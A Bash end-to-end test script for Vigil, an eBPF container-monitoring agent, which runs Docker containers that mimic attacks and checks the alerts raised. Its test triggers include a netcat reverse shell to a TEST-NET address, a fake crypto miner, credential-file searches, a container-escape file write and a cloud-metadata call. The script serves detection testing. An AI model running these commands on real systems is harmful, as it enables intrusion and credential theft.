#!/bin/bash
# End-to-end tests: load Vigil's BPF programs, drive real Docker containers,
# assert what Vigil reported.  Needs root and a Docker engine (started here if
# none runs).  Prints "N passed, N failed" last; exits 1 on any failure.
#
# Each test runs a container with a unique name and waits (up to a timeout)
# for one event of that container matching a jq condition that names every
# field it checks.
set -u

ROOT=$(cd "$(dirname "$0")/../.." && pwd)
VIGIL=$ROOT/build/vigil
HELPER=$ROOT/build/helpers/vigil-testbin
IMG=vigil-test:latest
NET=vigil-e2e-net
WORK=$(mktemp -d /tmp/vigil-e2e.XXXXXX)
OUT=$WORK/events.json
ERR=$WORK/vigil.err
TAG=vt$$
passed=0
failed=0
vigil_pid=

ok() { passed=$((passed + 1)); echo "ok   - $1"; }
fail() { failed=$((failed + 1)); echo "FAIL - $1"; shift; for l in "$@"; do echo "       $l"; done; }

cleanup() {
	[ -n "$vigil_pid" ] && kill "$vigil_pid" 2>/dev/null && wait "$vigil_pid" 2>/dev/null
	docker ps -aq --filter "name=$TAG" | xargs -r docker rm -f >/dev/null 2>&1
	docker network rm "$NET" >/dev/null 2>&1
	if [ "$failed" -gt 0 ]; then echo "(kept $WORK for inspection)"; else rm -rf "$WORK"; fi
}
trap cleanup EXIT

# events CONTAINER JQ_CONDITION -> matching events, one per line
events() {
	jq -c --arg c "$1" "select(.container.name == \$c) | select($2)" "$OUT" 2>/dev/null
}

# expect DESC CONTAINER JQ_CONDITION [TIMEOUT_S]
expect() {
	local desc=$1 ctr=$2 cond=$3 t=${4:-15} i=0
	while [ "$i" -lt $((t * 5)) ]; do
		if [ -n "$(events "$ctr" "$cond" | head -1)" ]; then
			ok "$desc"
			return 0
		fi
		sleep 0.2
		i=$((i + 1))
	done
	fail "$desc" "no event of container $ctr matched: $cond" \
		"its events: $(events "$ctr" 'true' | jq -c '[.type, .syscall, .file.path // .exec.exe // .net // "", .result]' 2>/dev/null | sort | uniq -c | head -20 | tr '\n' ';')"
	return 1
}

# run NAME [docker run options] -- COMMAND...
run() {
	local name=$1
	shift
	local opts=()
	while [ $# -gt 0 ] && [ "$1" != "--" ]; do opts+=("$1"); shift; done
	shift
	docker run --name "$name" --network none "${opts[@]}" "$IMG" "$@" >>"$WORK/containers.log" 2>&1
}

setup() {
	"$ROOT/scripts/dockerd.sh" || exit 1
	"$ROOT/tests/e2e/image.sh" "$HELPER" || exit 1
	docker network rm "$NET" >/dev/null 2>&1
	docker network create --internal --subnet 172.31.250.0/24 "$NET" >/dev/null || exit 1
	mkdir -p "$WORK/hostdir"
	echo "host secret" >"$WORK/hostdir/secret"
	# a container that exists before the agent starts
	docker run -d --name "$TAG-early" --network none "$IMG" sleep 600 >/dev/null || exit 1
	"$VIGIL" run --output json --output-file "$OUT" --summary-interval 0 --learn-seconds 3 --profile-dir "$WORK" \
		>/dev/null 2>"$ERR" &
	vigil_pid=$!
	for _ in $(seq 100); do
		grep -q "watching" "$ERR" 2>/dev/null && break
		kill -0 "$vigil_pid" 2>/dev/null || { cat "$ERR"; echo "vigil did not start"; exit 1; }
		sleep 0.1
	done
	grep -q "watching" "$ERR" || { cat "$ERR"; echo "vigil did not start"; exit 1; }
	sed 's/^/# /' "$ERR"
}

t_exec_and_relative_open() {
	local c=$TAG-exec
	run "$c" --rm -w /etc -- cat shadow
	expect "exec: exe resolved by the kernel, argv, cwd, ids, caps, container name+image of a --rm container" "$c" \
		'.type == "exec" and .syscall == "execve" and .result == 0 and .exec.exe == "/bin/busybox"
		 and .exec.filename == "/bin/cat" and .process.args == ["cat", "shadow"]
		 and .process.cmdline == "cat shadow" and .process.cwd == "/etc" and .process.vpid == 1
		 and .process.uid == 0 and .process.name == "cat" and (.process.pid > 1)
		 and (.process.caps | index("CAP_CHOWN") != null) and .container.image == "vigil-test:latest"
		 and (.container.id | length) == 12 and (.container.full_id | length) == 64
		 and .container.runtime == "docker" and .host != null and (.time | test("^[0-9-]+T[0-9:.]+Z$"))
		 and .exec.upper_layer == false and .exec.from_memfd == false'
	expect "open: relative path under cwd /etc reported as /etc/shadow" "$c" \
		'.type == "open" and .syscall == "openat" and .file.path == "/etc/shadow" and .file.nameraw == "shadow"
		 and .file.resolved == true and .result >= 0 and .file.fstype == "overlay"
		 and .file.mount.container_root == true and .file.mount.host == false
		 and (.file.flags | index("O_RDONLY") != null) and .process.name == "cat"'
}

t_open_symlink_dotdot() {
	local c=$TAG-symlink
	run "$c" -- sh -c 'cat /etc/shadow-link; cat /tmp/../etc/./passwd' 
	expect "open: through a symlink reports the target" "$c" \
		'.type == "open" and .file.path == "/etc/shadow" and .file.nameraw == "/etc/shadow-link" and .result >= 0'
	expect "open: .. and . resolve to the real file" "$c" \
		'.type == "open" and .file.path == "/etc/passwd" and .file.nameraw == "/tmp/../etc/./passwd"'
}

t_openat_dirfd() {
	local c=$TAG-dirfd
	run "$c" -- vigil-testbin openat /etc shadow
	expect "openat: path relative to a dirfd" "$c" \
		'.type == "open" and .file.path == "/etc/shadow" and .file.nameraw == "shadow" and .args.dirfd >= 0'
}

t_open_failed() {
	local c=$TAG-enoent
	run "$c" -w /etc -- cat no-such-file
	expect "open: a failed open is an event with its errno and the joined path" "$c" \
		'.type == "open" and .result == -2 and .errno == "ENOENT" and .file.path == "/etc/no-such-file"
		 and .file.resolved == false'
}

t_host_bind_mount() {
	local c=$TAG-bind
	run "$c" -v "$WORK/hostdir:/data" -- cat /data/secret
	expect "open: a file on a host bind mount is marked host, with the bind source" "$c" \
		'.type == "open" and .file.path == "/data/secret" and .file.mount.host == true
		 and .file.mount.bind == true and .file.mount.container_root == false
		 and (.file.mount.root | endswith("/hostdir")) and (.file.mount.source | length) > 0'
}

t_io_uring() {
	local c=$TAG-uring
	run "$c" -- vigil-testbin uring-open /etc/shadow
	expect "io_uring: setting up a ring is an event" "$c" \
		'.type == "io_uring" and .io_uring.op == "setup" and .io_uring.sq_entries >= 4 and .result >= 0'
	expect "io_uring: an open through io_uring is visible with the kernel's path" "$c" \
		'.type == "io_uring" and .io_uring.op == "openat" and .file.path == "/etc/shadow"
		 and .file.resolved == true and .result >= 0'
	local c2=$TAG-uringnet
	run "$c2" -- vigil-testbin uring-connect 192.0.2.1 80
	expect "io_uring: a connect through io_uring is visible with its destination" "$c2" \
		'.type == "io_uring" and .io_uring.op == "connect" and .net.remote.ip == "192.0.2.1"
		 and .net.remote.port == 80 and .result < 0'
}

t_connect_outside() {
	local c=$TAG-connect
	run "$c" -- vigil-testbin connect 192.0.2.1 443
	expect "connect: a failed connect to TEST-NET from --network none, with its error" "$c" \
		'.type == "connect" and .syscall == "connect" and .net.remote.ip == "192.0.2.1"
		 and .net.remote.port == 443 and .net.family == "AF_INET" and .net.proto == "tcp"
		 and .result == -101 and .errno == "ENETUNREACH"'
}

t_accept_bind_listen() {
	local c=$TAG-accept
	run "$c" -- vigil-testbin accept 8080
	expect "bind: local address and port" "$c" \
		'.type == "bind" and .net.local.ip == "127.0.0.1" and .net.local.port == 8080 and .result == 0'
	expect "listen: on the bound socket" "$c" \
		'.type == "listen" and .net.local.port == 8080 and .result == 0'
	expect "accept: both ends of the accepted connection" "$c" \
		'.type == "accept" and .net.local.port == 8080 and .net.remote.ip == "127.0.0.1"
		 and .net.remote.port > 0 and .result >= 0'
	expect "connect: a successful local connect" "$c" \
		'.type == "connect" and .net.remote.ip == "127.0.0.1" and .net.remote.port == 8080 and .result == 0'
}

t_container_to_container() {
	local srv=$TAG-srv cli=$TAG-cli ip
	docker run -d --name "$srv" --network "$NET" --ip 172.31.250.10 "$IMG" nc -l -p 9000 >/dev/null
	sleep 0.5
	docker run --name "$cli" --network "$NET" "$IMG" sh -c 'echo hi | nc -w 2 172.31.250.10 9000' \
		>>"$WORK/containers.log" 2>&1
	expect "connect: container to container on an internal network" "$cli" \
		'.type == "connect" and .net.remote.ip == "172.31.250.10" and .net.remote.port == 9000
		 and .result == 0 and (.net.local.ip | startswith("172.31.250."))'
	expect "accept: the peer container sees the client" "$srv" \
		'.type == "accept" and .net.local.port == 9000 and (.net.remote.ip | startswith("172.31.250."))'
}

t_file_mutations() {
	local c=$TAG-mutate
	run "$c" -- vigil-testbin mutate /tmp
	expect "chmod: setuid bit" "$c" '.type == "chmod" and .file.path == "/tmp/victim" and .file.setuid == true and .file.mode == 2541'
	expect "truncate" "$c" '.type == "truncate" and .file.path == "/tmp/victim" and .result == 0'
	expect "link: new name and target" "$c" '.type == "link" and .file.path == "/tmp/hardlink" and .file.target == "/tmp/victim"'
	expect "symlink: link path and target text" "$c" '.type == "symlink" and .file.path == "/tmp/shadowlink" and .file.target == "/etc/shadow"'
	expect "rename: old and new path" "$c" '.type == "rename" and .file.path == "/tmp/victim" and .file.new_path == "/tmp/renamed"'
	expect "mkdir" "$c" '.type == "mkdir" and .file.path == "/tmp/newdir" and .result == 0'
	expect "unlink" "$c" '.type == "unlink" and .file.path == "/tmp/renamed" and .result == 0'
}

t_privilege() {
	local c=$TAG-priv
	run "$c" -- vigil-testbin priv
	expect "ptrace: request and target" "$c" '.type == "ptrace" and .detail.request == "PTRACE_ATTACH" and .detail.target_pid > 0'
	expect "unshare: namespaces asked for, EPERM" "$c" \
		'.type == "unshare" and (.detail.namespaces | contains("CLONE_NEWNS")) and .errno == "EPERM"'
	expect "mount: target and error" "$c" '.type == "mount" and .detail.target == "/mnt" and .detail.source == "none" and .errno == "EPERM"'
	expect "bpf(): attempt reported" "$c" '.type == "bpf" and .result < 0'
	expect "setuid: requested uid" "$c" '.type == "setuid" and .syscall == "setuid" and .args.uid == 1000'
}

t_dup_socket() {
	local c=$TAG-dup
	run "$c" -- vigil-testbin dupsock
	expect "dup2/dup3 of a socket onto stdin/stderr" "$c" \
		'.type == "dup_socket" and .syscall == "dup2" and .newfd == 0 and .net.family == "AF_UNIX"'
	expect "dup3 onto stderr" "$c" '.type == "dup_socket" and .syscall == "dup3" and .newfd == 2'
}

t_open_aggregation() {
	local c=$TAG-repeat n
	run "$c" -- vigil-testbin loop openclose 1000
	expect "1000 identical opens by one process: reported once" "$c" \
		'.type == "open" and .file.path == "/etc/passwd" and .process.name == "vigil-testbin" and .file.repeats == 0'
	sleep 1
	n=$(events "$c" '.type == "open" and .file.path == "/etc/passwd" and .process.name == "vigil-testbin"' | wc -l)
	if [ "$n" = 1 ] && "$VIGIL" stats --json | jq -e '.kernel.open_repeats >= 999' >/dev/null; then
		ok "... and the 999 repeats are counted (open_repeats), not lost"
	else
		fail "... and the 999 repeats are counted" "events=$n" "$("$VIGIL" stats --json | jq -c .kernel)"
	fi
}

t_exec_flags() {
	local c=$TAG-memfd
	run "$c" -- vigil-testbin memfd-exec /bin/busybox
	expect "exec from memfd is flagged" "$c" \
		'.type == "exec" and .exec.from_memfd == true and (.exec.exe | startswith("/memfd:payload"))'
	local c2=$TAG-upper
	run "$c2" -- sh -c 'cp /bin/busybox /tmp/true && /tmp/true'
	expect "exec of a binary written in the container: upper layer, /tmp" "$c2" \
		'.type == "exec" and .exec.exe == "/tmp/true" and .exec.upper_layer == true and .exec.from_tmp == true'
	local c3=$TAG-noexec
	run "$c3" -- vigil-testbin exec-missing
	expect "failed exec: path and errno" "$c3" \
		'.type == "exec" and .syscall == "execve" and .result == -2 and .file.path == "/no/such/binary"'
}

t_hostile_input() {
	local c=$TAG-huge
	run "$c" -- vigil-testbin exec-huge /bin/true 100000
	expect "huge argv: bounded, flagged truncated" "$c" \
		'.type == "exec" and .exec.exe == "/bin/busybox" and .exec.args_truncated == true
		 and .process.args[0] == "/bin/true" and .process.args[1] == "first"
		 and (.process.args[2] | length) > 1000 and (.process.args[2] | length) < 4096'
	local c2=$TAG-odd
	run "$c2" -- vigil-testbin odd-name
	expect "odd bytes in a path: valid JSON, exact bytes kept in path_b64" "$c2" \
		'.type == "open" and (.file.path | startswith("/tmp/odd\"name\n\t")) and (.file.path | endswith("\\end"))
		 and .file.path_b64 == "L3RtcC9vZGQibmFtZQoJ//5cZW5k"'
}

t_preexisting_container() {
	docker exec "$TAG-early" cat /etc/shadow >/dev/null 2>&1
	expect "a container started before the agent is named" "$TAG-early" \
		'.type == "open" and .file.path == "/etc/shadow" and .process.name == "cat" and .container.image == "vigil-test:latest"'
}

t_short_lived() {
	local c=$TAG-short
	docker run --rm --name "$c" --network none "$IMG" true >/dev/null 2>&1
	expect "a 100 ms --rm container is attributed by name and image" "$c" \
		'.type == "exec" and .exec.filename == "/bin/true" and .container.image == "vigil-test:latest"'
	expect "its exit carries the syscall counts made in the kernel: set-up, then program" "$c" \
		'.type == "container_exit" and .setup_syscalls.execve >= 1 and .setup_syscalls.pivot_root >= 1
		 and .syscalls.exit_group == 1 and .syscalls_total >= 2 and (.syscalls.pivot_root // 0) == 0'
}

t_seccomp_profiles() {
	local rec=$TAG-prof-rec det=$TAG-prof-det w out_rec out_app missing n
	w='cat /etc/passwd >/tmp/x; ls / >/dev/null; echo hi | wc -c'
	out_rec=$(docker run --name "$rec" --network none "$IMG" sh -c "$w" 2>&1)
	expect "(recording container exited)" "$rec" '.type == "container_exit"' >/dev/null
	if "$VIGIL" profile "$rec" --from-events "$OUT" -o "$WORK/prof.json" 2>>"$WORK/profile.log" &&
	   jq -e '.defaultAction == "SCMP_ACT_ERRNO" and .defaultErrnoRet == 1 and
		  (.architectures | index("SCMP_ARCH_X86_64") != null) and
		  (.syscalls[0].names | . == sort and index("execve") != null and index("openat") != null
		   and index("ptrace") == null and index("pivot_root") == null)' "$WORK/prof.json" >/dev/null; then
		ok "profile: recorded from the container's syscalls (runtime set-up left out)"
	else
		fail "profile: recorded from the container's syscalls" "$(cat "$WORK/profile.log")" "$(head -c 400 "$WORK/prof.json")"
	fi
	out_app=$(docker run --rm --network none --security-opt seccomp="$WORK/prof.json" "$IMG" sh -c "$w" 2>&1)
	if [ $? = 0 ] && [ "$out_app" = "$out_rec" ]; then
		ok "profile: the same workload runs under it with docker run --security-opt seccomp"
	else
		fail "profile: the same workload runs under it" "recorded: $out_rec" "under profile: $out_app"
	fi
	out_app=$(docker run --rm --network none --security-opt seccomp="$WORK/prof.json" "$IMG" vigil-testbin priv 2>&1)
	if echo "$out_app" | grep -q "ptrace: -1 Operation not permitted"; then
		ok "profile: a syscall outside it gets EPERM"
	else
		fail "profile: a syscall outside it gets EPERM" "$out_app"
	fi
	# detection without enforcement: the label attaches the profile
	run "$det" --label vigil.profile=prof.json -- vigil-testbin priv
	expect "profile: a syscall outside it is an INSECURE event, decided in the kernel" "$det" \
		'.type == "profile_violation" and .syscall == "ptrace" and .verdict == "INSECURE"
		 and (.output | startswith("Unsafe:[syscall outside profile: ")) and .process.name == "vigil-testbin"'
	n=$(events "$det" '.type == "profile_violation"' | jq -r .syscall | sort | uniq -d | wc -l)
	if [ "$n" = 0 ] && [ -z "$(events "$det" '.type == "profile_violation" and (.syscall == "openat" or .syscall == "execve")')" ]; then
		ok "profile: allowed syscalls raise nothing; each violation is reported once"
	else
		fail "profile: allowed syscalls raise nothing; each violation once" "$(events "$det" '.type == "profile_violation"' | jq -c '[.syscall]' | tr '\n' ' ')"
	fi
	# static analysis of the same image covers what was recorded
	if "$VIGIL" analyze "$IMG" -o "$WORK/static.json" --report "$WORK/report.json" >"$WORK/analyze.log" 2>&1; then
		missing=$(comm -23 <(jq -r '.syscalls[0].names[]' "$WORK/prof.json" | sort) \
				   <(jq -r '.syscalls[0].names[]' "$WORK/static.json" | sort) | tr '\n' ' ')
		if [ -z "$missing" ] && jq -e '.count > 50 and .docker_default_count > .count and .elf_files >= 2
				and (.per_binary["/bin/busybox"].syscalls | index("openat") != null)' "$WORK/report.json" >/dev/null; then
			ok "analyze: the image's static set contains every recorded syscall; fewer than Docker's default"
		else
			fail "analyze: static set contains every recorded syscall" "missing: $missing" "$(head -3 "$WORK/analyze.log")"
		fi
	else
		fail "analyze: runs on the test image" "$(cat "$WORK/analyze.log")"
	fi
	# from the running agent, and merging
	if "$VIGIL" profile "$TAG-early" -o "$WORK/early.json" 2>/dev/null &&
	   jq -e '.syscalls[0].names | index("nanosleep") != null' "$WORK/early.json" >/dev/null &&
	   "$VIGIL" profile --merge "$WORK/prof.json" --merge "$WORK/early.json" -o "$WORK/merged.json" 2>/dev/null &&
	   [ "$(jq '.syscalls[0].names | length' "$WORK/merged.json")" -ge "$(jq '.syscalls[0].names | length' "$WORK/prof.json")" ]; then
		ok "profile: from a running container through the agent; --merge unites"
	else
		fail "profile: from a running container; --merge" "$(ls -la "$WORK"/*.json)"
	fi
}

# verdict RULE_NAME CONTAINER EXTRA_CONDITION: an INSECURE event of that rule
verdict() {
	expect "rule fires: $1" "$2" ".verdict == \"INSECURE\" and (.rules | index(\"$1\") != null) and (.output | length) > 0 and ${3:-true}"
}

t_default_rules() {
	# on the actions of the tests above (the agent runs the default policy)
	verdict "Sensitive file read" "$TAG-exec" \
		'.reasons == "Unsafe:[opening sensitive file]" and .priority == "WARNING" and .output_fields["fd.name"] == "/etc/shadow"
		 and (.tags | index("mitre_credential_access") != null)'
	verdict "Connection outside the container networks" "$TAG-connect" '.net.remote.ip == "192.0.2.1"'
	verdict "Binary not in the image executed" "$TAG-upper" '.exec.exe == "/tmp/true"'
	verdict "Binary not in the image executed" "$TAG-memfd" '.exec.from_memfd == true'
	run "$TAG-r-rev" -- sh -c 'cp /bin/vigil-testbin /tmp/python3 && /tmp/python3 dupsock'
	verdict "Standard stream redirected to a socket" "$TAG-r-rev" '.process.name == "python3"'
	verdict "Process attached with ptrace" "$TAG-priv"
	verdict "Namespace changed in a running container" "$TAG-priv"
	verdict "Mount in a running container" "$TAG-priv"
	verdict "bpf() called in container" "$TAG-priv"
	verdict "Set-uid bit set" "$TAG-mutate"
	verdict "Link to a sensitive file" "$TAG-mutate"
	verdict "io_uring set up in container" "$TAG-uring"
	# triggers of their own
	docker exec "$TAG-early" sh -c true >/dev/null 2>&1
	verdict "Shell spawned in a running container" "$TAG-early" '.process.name == "sh"'
	run "$TAG-r-etc" -- sh -c 'echo x > /etc/evil'
	verdict "Write below a system directory" "$TAG-r-etc" '.file.path == "/etc/evil"'
	run "$TAG-r-sysdir" -- sh -c 'mkdir /etc/evil.d'
	verdict "System directory changed" "$TAG-r-sysdir" '.file.path == "/etc/evil.d"'
	run "$TAG-r-nc" -- nc -e /bin/sh 192.0.2.1 4444
	verdict "Netcat with command execution" "$TAG-r-nc"
	run "$TAG-r-miner" -- sh -c 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig --url stratum+tcp://192.0.2.1:3333'
	verdict "Crypto miner started" "$TAG-r-miner"
	run "$TAG-r-sock" -- vigil-testbin connect-unix /var/run/docker.sock
	verdict "Container runtime socket contacted" "$TAG-r-sock" '.net.unix_path == "/var/run/docker.sock"'
	run "$TAG-r-meta" -- vigil-testbin connect 169.254.169.254 80
	verdict "Cloud metadata service contacted" "$TAG-r-meta"
	run "$TAG-r-pkt" -- vigil-testbin packet-socket
	verdict "Packet socket created" "$TAG-r-pkt"
	run "$TAG-r-esc" -- sh -c 'echo x > /tmp/release_agent'
	verdict "Container escape file written" "$TAG-r-esc"
	run "$TAG-r-log" -- sh -c 'mkdir -p /var/log && echo x > /var/log/app.log'
	verdict "Log files truncated" "$TAG-r-log"
	run "$TAG-r-cap" --cap-add SYS_ADMIN -- true
	verdict "Container runs with dangerous capabilities" "$TAG-r-cap"
	run "$TAG-r-hmount" -v /etc:/hostetc:ro -- cat /hostetc/hostname
	verdict "Sensitive host path mounted in container" "$TAG-r-hmount" '.output_fields["fd.mount_root"] == "/etc"'
	run "$TAG-r-hwrite" -v "$WORK/hostdir:/data" -- sh -c 'echo x > /data/out'
	verdict "Write to a host mount" "$TAG-r-hwrite"
	run "$TAG-r-scan" -- vigil-testbin scan 192.0.2.1 1 40
	verdict "Port scan" "$TAG-r-scan" '.net.remote.port >= 20'
	run "$TAG-r-pidns" --pid host -- true
	verdict "Container shares the host PID namespace" "$TAG-r-pidns"
}

# Configuration read from the OCI runtime config, and capability use
# against the learned baseline.  A real --privileged cannot start in this
# sandbox (its bounding set lacks CAP_SYS_RESOURCE), so "privileged" is made
# as Docker makes it: the escaping capabilities and no masked paths.
t_container_config_and_caps() {
	local img=vigil-test:caps-$TAG
	run "$TAG-c-priv" --cap-add SYS_ADMIN --cap-add SYS_MODULE --security-opt systempaths=unconfined -- true
	verdict "Privileged container started" "$TAG-c-priv"
	expect "container_start carries the OCI config (privileged, bounding set)" "$TAG-c-priv" \
		'.type == "container_start" and .config.privileged == true and (.config.cap_bounding | index("CAP_SYS_MODULE") != null)'
	run "$TAG-c-plain" -- true
	expect "a default container is not privileged and has its own namespaces" "$TAG-c-plain" \
		'.type == "container_start" and .config.privileged == false and .config.host_network == false and .config.host_ipc == false'
	docker run --name "$TAG-c-net" --network host "$IMG" true >>"$WORK/containers.log" 2>&1
	verdict "Container shares the host network or IPC namespace" "$TAG-c-net" '.output_fields["container.host_network"] == true'
	run "$TAG-c-ipc" --ipc host -- true
	verdict "Container shares the host network or IPC namespace" "$TAG-c-ipc" '.output_fields["container.host_ipc"] == true'
	run "$TAG-c-mnt" -v /etc:/hostetc:ro -v /run/docker.sock:/var/run/docker.sock -- true
	verdict "Container started with a sensitive host mount" "$TAG-c-mnt" \
		'(.output_fields["container.mounts"] | contains("/etc:/hostetc::false:")) and (.output_fields["container.mounts"] | contains("/run/docker.sock:/var/run/docker.sock::true:"))'
	# its own image: a baseline no other test adds to
	docker tag "$IMG" "$img" >/dev/null
	docker run --name "$TAG-c-caps" --network none "$img" \
		sh -c 'touch /tmp/f; chown 5 /tmp/f; sleep 5; chown 6 /tmp/f; mknod /tmp/null c 1 3' >>"$WORK/containers.log" 2>&1
	expect "capability use learned in the window stays NORMAL" "$TAG-c-caps" \
		'.type == "capability" and .capability.name == "CAP_CHOWN" and .capability.syscall == "chown" and .capability.learning == true and .verdict == "NORMAL"'
	verdict "Capability used outside the container's baseline" "$TAG-c-caps" \
		'.capability.name == "CAP_MKNOD" and .capability.in_baseline == false and .output_fields["evt.arg.syscall"] == "mknodat"'
	expect "container_exit lists the capabilities granted and the baseline" "$TAG-c-caps" \
		'.type == "container_exit" and (.capabilities.granted | index("CAP_MKNOD") != null) and .capabilities.baseline == ["CAP_CHOWN"]'
	n=$(events "$TAG-c-caps" '.type == "capability" and .capability.name == "CAP_CHOWN"' | wc -l)
	[ "$n" = 1 ] && ok "a capability is reported once per container (the second chown is not)" ||
		fail "capability reported once" "CAP_CHOWN events: $n"
	docker rmi "$img" >/dev/null 2>&1
}

# SIGHUP: a good file replaces the rules; a broken one is reported with its
# position and the rules in use stay.
t_rules_reload() {
	local r=$WORK/reload.yaml rout=$WORK/reload.json rerr=$WORK/reload.err pid n
	cp "$ROOT/rules/vigil_rules.yaml" "$r"
	"$VIGIL" run --rules "$r" --alerts-only --output json --output-file "$rout" --summary-interval 0 \
		>/dev/null 2>"$rerr" &
	pid=$!
	for _ in $(seq 100); do grep -q watching "$rerr" 2>/dev/null && break; sleep 0.1; done
	# listen(): a syscall no default rule tests, so not attached at first
	mark() { run "$1" -- vigil-testbin accept 7777; }
	mark "$TAG-rl-1"
	cat >>"$r" <<'EOF2'

- rule: Reload marker
  desc: added while the agent runs
  condition: evt.type = listen and container
  output: marker ran (container=%container.name)
  priority: NOTICE
EOF2
	kill -HUP "$pid"
	for _ in $(seq 50); do [ "$(grep -c 'syscall events' "$rerr")" -ge 2 ] && break; sleep 0.1; done
	mark "$TAG-rl-2"
	printf '\n- rule: Broken\n  condition: evt.type = = x\n  output: x\n  priority: NOTICE\n' >>"$r"
	kill -HUP "$pid"
	for _ in $(seq 50); do grep -q 'reload failed' "$rerr" && break; sleep 0.1; done
	mark "$TAG-rl-3"
	sleep 1
	kill -TERM "$pid"
	wait "$pid"
	n() { jq -c --arg c "$1" 'select(.container.name == $c and (.rules | index("Reload marker") != null))' "$rout" | wc -l; }
	if [ "$(n "$TAG-rl-1")" = 0 ] && [ "$(n "$TAG-rl-2")" = 1 ] && [ "$(n "$TAG-rl-3")" = 1 ]; then
		ok "SIGHUP: a new rule applies from the next event; a broken file keeps the rules in use"
	else
		fail "SIGHUP reload" "marker alerts: $(n "$TAG-rl-1") $(n "$TAG-rl-2") $(n "$TAG-rl-3") (want 0 1 1)" "$(grep rules "$rerr")"
	fi
	local first second
	first=$(grep -m1 'syscall events' "$rerr" | sed 's/.*events: \([0-9]*\) syscalls (those the rules test).*/\1/')
	second=$(grep 'syscall events' "$rerr" | sed -n 2p | sed 's/.*events: \([0-9]*\) syscalls (those the rules test).*/\1/')
	if [ -n "$first" ] && [ "$second" = $((first + 1)) ] && [ "$first" -lt 45 ]; then
		ok "--alerts-only: the kernel sends only the syscalls the rules test ($first), one more after the reload"
	else
		fail "syscall interest from the rules" "$(grep 'syscall events' "$rerr")"
	fi
	if grep -q "reload.yaml:[0-9]*:[0-9]*: " "$rerr" && grep -q "reload failed: keeping the rules in use" "$rerr"; then
		ok "SIGHUP with a broken file: file:line:col error and the old rules kept"
	else
		fail "reload error reported" "$(cat "$rerr")"
	fi
}

# Ordinary container life: nothing INSECURE.
t_benign_normal() {
	local srv=$TAG-b-web cli=$TAG-b-cli c=$TAG-b-misc n
	docker run -d --name "$srv" --network "$NET" --ip 172.31.250.20 "$IMG" \
		sh -c 'mkdir -p /www && echo hello > /www/index.html && exec httpd -f -p 8080 -h /www' >/dev/null
	sleep 1
	docker run --name "$cli" --network "$NET" "$IMG" \
		sh -c 'for i in 1 2 3; do wget -q -O - http://172.31.250.20:8080/index.html; done' >>"$WORK/containers.log" 2>&1
	run "$c" -- sh -c 'cat /etc/hosts /etc/resolv.conf /etc/passwd >/dev/null; echo data > /tmp/file;
		mkdir -p /tmp/d && mv /tmp/file /tmp/d/ && rm -r /tmp/d; ls / >/dev/null; sh -c "echo nested" >/dev/null'
	expect "(benign client finished)" "$cli" '.type == "container_exit"' >/dev/null
	expect "(benign workload finished)" "$c" '.type == "container_exit"' >/dev/null
	n=$(jq -c --arg a "$srv" --arg b "$cli" --arg c "$c" \
		'select(.container.name == $a or .container.name == $b or .container.name == $c) | select(.verdict == "INSECURE")' "$OUT" | wc -l)
	if [ "$n" = 0 ] && [ -n "$(events "$cli" '.type == "connect" and .net.remote.port == 8080 and .verdict == "NORMAL"')" ] &&
	   [ -n "$(events "$srv" '.type == "accept" and .verdict == "NORMAL"')" ]; then
		ok "benign: web server and client, entrypoint scripts, /etc/hosts, /tmp writes stay NORMAL"
	else
		fail "benign workloads stay NORMAL" "$(jq -c --arg a "$srv" --arg b "$cli" --arg c "$c" \
			'select(.container.name == $a or .container.name == $b or .container.name == $c) | select(.verdict == "INSECURE") | [.container.name, .type, .rules, .output]' "$OUT" | head -5)"
	fi
}

# Past what the agent can take: every event is written or counted as a drop.
# A second agent with a 1 MiB ring buffer is stopped (SIGSTOP) while a
# container opens a file 50,000 times with aggregation off.
t_drops_counted() {
	local dout=$WORK/drops.json derr=$WORK/drops.err pid c=$TAG-flood n=50000 written drops
	"$VIGIL" run --ringbuf-mb 1 --dedup-window 0 --no-rules --output json --output-file "$dout" \
		--summary-interval 0 >/dev/null 2>"$derr" &
	pid=$!
	for _ in $(seq 100); do grep -q watching "$derr" 2>/dev/null && break; sleep 0.1; done
	kill -STOP "$pid"
	run "$c" -- vigil-testbin loop openclose "$n"
	kill -CONT "$pid"
	sleep 1
	kill -TERM "$pid"
	wait "$pid"
	written=$(jq -c --arg c "$c" 'select(.container.name == $c and .type == "open" and .file.path == "/etc/passwd")' \
		"$dout" 2>/dev/null | wc -l)
	drops=$(sed -n 's/.*vigil: stats: .* ringbuf_full=\([0-9]*\) .*/\1/p' "$derr")
	# drops may also include the container's other events (its exec, exits)
	if [ "${drops:-0}" -gt 0 ] && [ "$written" -lt "$n" ] && [ $((written + drops)) -ge "$n" ] &&
		[ $((written + drops)) -le $((n + 100)) ]; then
		ok "ring buffer full: $written opens written + $drops counted drops account for all $n"
	else
		fail "ring buffer full: every event written or counted" "written=$written drops=${drops:-none} of $n" \
			"$(grep 'vigil: stats:' "$derr")"
	fi
}

# Falco's stable rules, unmodified, on their triggers: which fire.
t_falco_rules() {
	local fout=$WORK/falco.json ferr=$WORK/falco.err pid fired expected missing r
	"$VIGIL" run --rules "$ROOT/../shared/falco/falco_rules.yaml" --alerts-only --output json \
		--output-file "$fout" --summary-interval 0 >/dev/null 2>"$ferr" &
	pid=$!
	for _ in $(seq 100); do grep -q watching "$ferr" 2>/dev/null && break; sleep 0.1; done
	docker run --rm --network none "$IMG" cat /etc/shadow >/dev/null 2>&1
	docker run --rm --network none "$IMG" cat /etc/../etc/../etc/shadow >/dev/null 2>&1
	docker run --rm --network none -t "$IMG" sh -c true >/dev/null 2>&1
	docker run --rm --network none "$IMG" nc -e /bin/sh 192.0.2.1 4444 >/dev/null 2>&1
	docker run --rm --network none "$IMG" find /etc -name id_rsa >/dev/null 2>&1
	docker run --rm --network none "$IMG" find / -path /root/.aws/credentials >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'mkdir -p /var/log && echo > /var/log/syslog' >/dev/null 2>&1
	# as the entrypoint: busybox sh runs some applets without an exec
	docker run --rm --network none "$IMG" shred -n 1 /etc/group >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln -s /etc/shadow /tmp/l >/dev/null 2>&1
	docker run --rm --network none "$IMG" ln /etc/shadow /tmp/h >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin packet-socket >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin dupinet >/dev/null 2>&1
	docker run --rm --network none --cap-add SYS_ADMIN "$IMG" sh -c 'echo x > /tmp/release_agent' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin priv >/dev/null 2>&1
